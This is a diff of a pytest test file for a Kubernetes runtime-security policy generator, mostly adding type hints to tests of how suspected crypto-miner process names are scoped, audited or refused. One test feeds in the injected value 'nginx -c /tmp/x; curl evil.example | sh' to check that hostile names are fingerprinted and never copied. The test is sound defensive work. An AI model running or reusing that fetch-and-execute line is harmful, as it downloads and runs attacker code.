@@ -4,13 +4,17 @@ workloads where it was seen; or audited (``policy.scoping``), as compiled into o
 from __future__ import annotations
 
 import json
+from collections.abc import Sequence
+from typing import Any
 
 import pytest
 
+from cdr_policy.models import Sighting
 from cdr_policy.policy.binaries import COMMON_PROGRAM, refuse_cluster_wide
-from cdr_policy.policy.channel import ChannelSettings
-from cdr_policy.policy.checker import check_object, errors_of
+from cdr_policy.policy.channel import Action, ChannelSettings
+from cdr_policy.policy.checker import SchemaSet, check_object, errors_of
 from cdr_policy.policy.naming import is_system_namespace
+from cdr_policy.policy.render import RenderResult
 from cdr_policy.policy.scoping import MAX_WORKLOAD_POLICIES, MAX_WORKLOAD_SCOPES
 from cdr_policy.report import bundle_report
 
@@ -20,42 +24,49 @@ PROD = ChannelSettings(name="prod", action="Sigkill")
 MINERS = ("envoy", "nginx", "postgres")
 
 
-def _render(sightings, channel=PROD, rule="crypto_mining", processes=(), schemas=None):
+def _render(
+    sightings: Sequence[Sighting],
+    channel: ChannelSettings = PROD,
+    rule: str = "crypto_mining",
+    processes: Sequence[str] = (),
+    schemas: SchemaSet | None = None,
+) -> RenderResult:
     return render([cdr_set(behaviours=[behaviour(rule, processes, sightings=sightings)])], channel, schemas)
 
 
-def _actions(obj):
+def _actions(obj: dict[str, Any]) -> set[str]:
     return {a["action"] for hook in obj["spec"]["kprobes"] for s in hook["selectors"] for a in s["matchActions"]}
 
 
-def _rows(result):
+def _rows(result: RenderResult) -> dict[str, dict[str, Any]]:
     [entry] = result.report["behaviours"]
     return {row["process"]: row for row in entry["evidence"]}
 
 
-def _scope(obj):
-    return obj["metadata"]["labels"].get("cdr-policy.io/scope")
+def _scope(obj: dict[str, Any]) -> str | None:
+    scope: str | None = obj["metadata"]["labels"].get("cdr-policy.io/scope")
+    return scope
 
 
-def _workloads(result):
+def _workloads(result: RenderResult) -> list[dict[str, Any]]:
     """The objects that enforce evidence in one workload each."""
     return [f.obj for f in result.files if _scope(f.obj) == "workload"]
 
 
-def _namespace(obj):
+def _namespace(obj: dict[str, Any]) -> str:
     """The namespace a workload policy's selector names (``k8s:io.kubernetes.pod.namespace In``)."""
     [expression] = obj["spec"]["podSelector"]["matchExpressions"]
     assert (expression["key"], expression["operator"]) == ("k8s:io.kubernetes.pod.namespace", "In")
     [namespace] = expression["values"]
-    return namespace
+    return str(namespace)
 
 
-def _main(result):
+def _main(result: RenderResult) -> dict[str, Any]:
     [obj] = [f.obj for f in result.files if _scope(f.obj) is None]
     return obj
 
 
-def _cluster_wide_kills(result):
+def _cluster_wide_kills(result: RenderResult) -> set[str]:
     """Every name an object that is not scoped to a workload kills (an enforcing action)."""
     return {
         name
@@ -66,7 +77,7 @@ def _cluster_wide_kills(result):
 
 
 @pytest.mark.parametrize("action", ["Post", "Sigkill", "Override"])
-def test_masquerading_miners_are_killed_only_in_the_workload_where_they_ran(schemas, action):
+def test_masquerading_miners_are_killed_only_in_the_workload_where_they_ran(schemas: SchemaSet, action: Action) -> None:
     channel = ChannelSettings(name="prod", action=action)
     result = _render(
         [sighting(name, "shop", {"app": "web", "tier": "front"}) for name in MINERS], channel, schemas=schemas
@@ -99,7 +110,7 @@ def test_masquerading_miners_are_killed_only_in_the_workload_where_they_ran(sche
         ]
 
 
-def test_without_a_workload_the_names_stay_in_audit():
+def test_without_a_workload_the_names_stay_in_audit() -> None:
     result = _render([sighting(name, namespace=None) for name in MINERS])
     audit = [f for f in result.files if f.filename.startswith("cdr-audit-crypto-mining-")]
     [obj] = [f.obj for f in audit]
@@ -115,7 +126,7 @@ def test_without_a_workload_the_names_stay_in_audit():
     assert rows["nginx"]["findings"] == 1 and rows["nginx"]["workloads"] == 0
 
 
-def test_a_set_written_before_sightings_were_kept_audits_its_names():
+def test_a_set_written_before_sightings_were_kept_audits_its_names() -> None:
     result = _render([], processes=["nginx", "kdevtmpfs2"])
     rows = _rows(result)
     assert {r["placement"] for r in rows.values()} == {"audit"}
@@ -123,7 +134,7 @@ def test_a_set_written_before_sightings_were_kept_audits_its_names():
     assert _cluster_wide_kills(result) & {"/nginx", "/kdevtmpfs2"} == set()
 
 
-def test_system_namespaces_are_only_audited():
+def test_system_namespaces_are_only_audited() -> None:
     result = _render([sighting("nginx", "kube-system", {"k8s-app": "x"}), sighting("nginx", "openshift-dns")])
     assert [_scope(f.obj) for f in result.files] == ["audit", None]
     assert _rows(result)["nginx"]["audited"] == "seen in a system namespace, where evidence is only audited"
@@ -131,7 +142,7 @@ def test_system_namespaces_are_only_audited():
     assert not is_system_namespace("shop") and not is_system_namespace("default")
 
 
-def test_a_corroborated_name_joins_the_rule_unless_it_is_a_common_program():
+def test_a_corroborated_name_joins_the_rule_unless_it_is_a_common_program() -> None:
     spread = [sighting(name, f"team-{i}", {"app": f"a{i}"}) for i in range(3) for name in ("kxmr", "nginx")]
     result = _render(spread)
     main = _main(result)
@@ -155,7 +166,7 @@ def test_a_corroborated_name_joins_the_rule_unless_it_is_a_common_program():
     assert result.report["behaviours"][0]["evidence_added"] == ["kxmr"]
 
 
-def test_corroboration_counts_workloads_not_findings_and_the_threshold_is_a_channel_setting():
+def test_corroboration_counts_workloads_not_findings_and_the_threshold_is_a_channel_setting() -> None:
     same_workload = [sighting("kxmr", "shop", findings=40), sighting("kxmr", "shop", deployment="web", findings=2)]
     rows = _rows(_render(same_workload))
     assert rows["kxmr"]["workloads"] == 2 and rows["kxmr"]["findings"] == 42
@@ -170,7 +181,7 @@ def test_corroboration_counts_workloads_not_findings_and_the_threshold_is_a_chan
     assert _rows(_render(deployments))["kxmr"]["workloads"] == 1
 
 
-def test_channel_namespaces_and_pod_labels_bound_the_scopes():
+def test_channel_namespaces_and_pod_labels_bound_the_scopes() -> None:
     channel = ChannelSettings(name="prod", action="Sigkill", namespaces=("shop",), pod_labels={"tier": "front"})
     result = _render(
         [
@@ -191,7 +202,7 @@ def test_channel_namespaces_and_pod_labels_bound_the_scopes():
     assert [f.obj["metadata"]["namespace"] for f in audit] == ["shop"]  # audit, like the rule, per channel namespace
 
 
-def test_scopes_are_bounded_and_what_is_over_is_audited():
+def test_scopes_are_bounded_and_what_is_over_is_audited() -> None:
     many = [
         sighting("nginx", f"team-{i:02d}", {"app": "web"}, findings=100 - i) for i in range(MAX_WORKLOAD_SCOPES + 4)
     ]
@@ -212,7 +223,7 @@ def test_scopes_are_bounded_and_what_is_over_is_audited():
     ]
 
 
-def test_refused_names_are_reported_by_fingerprint_never_copied():
+def test_refused_names_are_reported_by_fingerprint_never_copied() -> None:
     hostile = "nginx -c /tmp/x; curl evil.example | sh"
     result = _render([], processes=[hostile, "bash"])
     rows = result.report["behaviours"][0]["evidence"]
@@ -223,7 +234,7 @@ def test_refused_names_are_reported_by_fingerprint_never_copied():
     assert {r["process"] for r in rows} == {None, "bash"}
 
 
-def test_no_cluster_wide_object_ever_kills_a_refused_name():
+def test_no_cluster_wide_object_ever_kills_a_refused_name() -> None:
     """Whatever the evidence, on an enforcing channel: what a cluster-wide object kills passes the list."""
     names = ["nginx", "envoy", "sshd", "redis-server", "pilot-agent", "kworker", "postgres15", "kxmr"]
     seen = [sighting(n, f"ns-{i}", {"app": n}) for i in range(4) for n in names]
@@ -234,7 +245,7 @@ def test_no_cluster_wide_object_ever_kills_a_refused_name():
         assert {v for v in killed if refuse_cluster_wide(v)} == set(), rule
 
 
-def test_metadata_service_callers_are_scoped_the_same_way(schemas):
+def test_metadata_service_callers_are_scoped_the_same_way(schemas: SchemaSet) -> None:
     result = _render([sighting("envoy", "shop")], rule="cloud_credentials", schemas=schemas)
     [scoped] = _workloads(result)
     [hook] = scoped["spec"]["kprobes"]
@@ -245,7 +256,7 @@ def test_metadata_service_callers_are_scoped_the_same_way(schemas):
     assert "/envoy" not in json.dumps(_main(result))
 
 
-def test_every_placement_of_evidence_is_admitted_on_every_kind_of_channel():
+def test_every_placement_of_evidence_is_admitted_on_every_kind_of_channel() -> None:
     """The workload and audit policies (and corroborated names in the rule's own) pass the
     admission of what reaches a cluster, in Publish and the agent alike."""
     from cdr_policy.admission import Admission, protection
